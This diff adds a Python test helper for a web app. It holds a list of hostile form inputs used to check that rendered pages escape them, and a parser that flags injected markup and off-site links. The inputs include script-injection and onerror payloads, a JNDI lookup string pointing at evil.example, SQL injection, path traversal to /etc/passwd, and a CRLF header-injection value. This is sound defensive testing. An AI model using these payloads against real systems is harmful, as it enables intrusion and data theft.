@@ -1,0 +1,95 @@
+"""What is put into every field, and how a page is read that must not hold any of it as markup."""
+
+import json
+import pathlib
+import re
+import unicodedata
+from dataclasses import dataclass, field
+from urllib.parse import quote_plus
+
+import html5lib
+
+ROOT = pathlib.Path(__file__).resolve().parents[2]
+BLNS = json.loads((ROOT / "tests/vectors/blns/blns.json").read_text("utf-8"))
+LONE_SURROGATE = "a\ud800b"  # travels as its three bytes, as a careless program sends it
+NASTY = [
+    *("", "\x00", "a\x00b", LONE_SURROGATE, "\x1b[31mred", "a\u202egpj.exe", "a\u200bb", "שלום", "Z̷̛", "a\u2028b"),
+    *("x" * 10_240, "é" * 10_240, "\ufffe", "\U0010ffff", "\t\n\r", "a\r\nX-Injected: 1", "\ufeffa", "½٣"),
+    *(
+        "<script>window.__xss=1</script>",
+        '"><img src=x onerror=alert(1)>',
+        "'><x-evil y-evil=1>",
+        "</textarea><x-evil>",
+    ),
+    *("</title><x-evil>", "<!--", "&lt;b&gt;&amp;", "{{ 7|add:7 }}{% load evil %}", "{0.__class__}{x!r}", "%s%n%(x)s%"),
+    *("${jndi:ldap://evil.example/}", "' OR 1=1; --", "../../../etc/passwd", "javascript:alert(1)", "//evil.example"),
+    *("-1", "1e400", "NaN", "9" * 400, "null", '{"a":1}', "__proto__", "http://[::1", "http://user:pw@x"),
+]
+_TEMPLATES = "\n".join(path.read_text("utf-8") for path in (ROOT / "templates").rglob("*.html"))
+_FROM_DJANGO = "html head body input textarea select option label div tbody fieldset legend bdi"
+_OF_WIDGETS = (
+    "value name id type required maxlength minlength rows cols selected checked multiple min max step spellcheck "
+    "autocomplete placeholder aria-invalid aria-describedby data-char title class"
+)
+TAGS = {*re.findall(r"<([a-z][a-z0-9-]*)", _TEMPLATES), *_FROM_DJANGO.split()}
+ATTRIBUTES = {*re.findall(r"[\s\"}]([a-z][a-z-]*)(?==\"|[\s>])", _TEMPLATES), *_OF_WIDGETS.split()}
+ADDRESSES = {"href", "src", "action", "formaction", "hx-get", "hx-post"}
+
+NOT_TYPED = {"checkbox", "radio", "file"}
+
+
+def encoded(data):
+    """A form as a browser sends it, lone surrogates as the bytes they would be."""
+    pairs = [(name, one) for name, value in data.items() for one in (value if isinstance(value, list) else [value])]
+    return "&".join(f"{name}={quote_plus(str(value).encode('utf-8', 'surrogatepass'))}" for name, value in pairs)
+
+
+@dataclass
+class Read:
+    """A page as a browser reads it: `controls` are what form fields hold, `problems` what could be foreign markup."""
+
+    text: str = ""
+    controls: dict[str, str] = field(default_factory=dict)
+    problems: list[str] = field(default_factory=list)
+
+
+def read(html):
+    found = Read()
+    tree = html5lib.parse(html, namespaceHTMLElements=False)
+    for element in tree.iter():
+        if isinstance(element.tag, str):
+            _judge(element, found)
+    found.text = "".join(tree.itertext())
+    return found
+
+
+def _judge(element, found):
+    if _bare(element.tag) not in TAGS:
+        found.problems.append(f"element {element.tag}")
+    if element.tag == "script" and (element.text or "").strip() and element.get("type") != "application/json":
+        found.problems.append("a script with text")
+    for name, value in element.attrib.items():
+        if _bare(name) not in ATTRIBUTES or name.startswith("on") or name in ("style", "srcdoc"):
+            found.problems.append(f"attribute {name} of {element.tag}")
+        if name in ADDRESSES and (not value.startswith(("/", "#", "?")) or value.startswith(("//", "/\\"))):
+            found.problems.append(f"{name}={value[:60]}")
+    if element.get("name") and element.tag in ("input", "textarea") and element.get("type") not in NOT_TYPED:
+        held = element.get("value", "") if element.tag == "input" else "".join(element.itertext())
+        found.controls.setdefault(element.get("name"), held)
+
+
+def _bare(name):
+    """Without the namespace of a drawing."""
+    return str(name).rpartition("}")[2].lower()
+
+
+def as_read(text):
+    """A text as a browser gives it back: other line ends, and without what no page can hold."""
+    whole = text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
+    return re.sub(r"\r\n?", "\n", re.sub("[\x00\ufffd\ufffe]", "", whole)).strip()
+
+
+def loosely(text):
+    """For comparing what is shown: without blanks, marks of hidden characters and their badges."""
+    shown = re.sub(r"U\+[0-9A-F]{4,6}|[‹›]", "", text)
+    return "".join(char for char in shown if unicodedata.category(char)[0] not in "CZ" and char != "\ufffd")
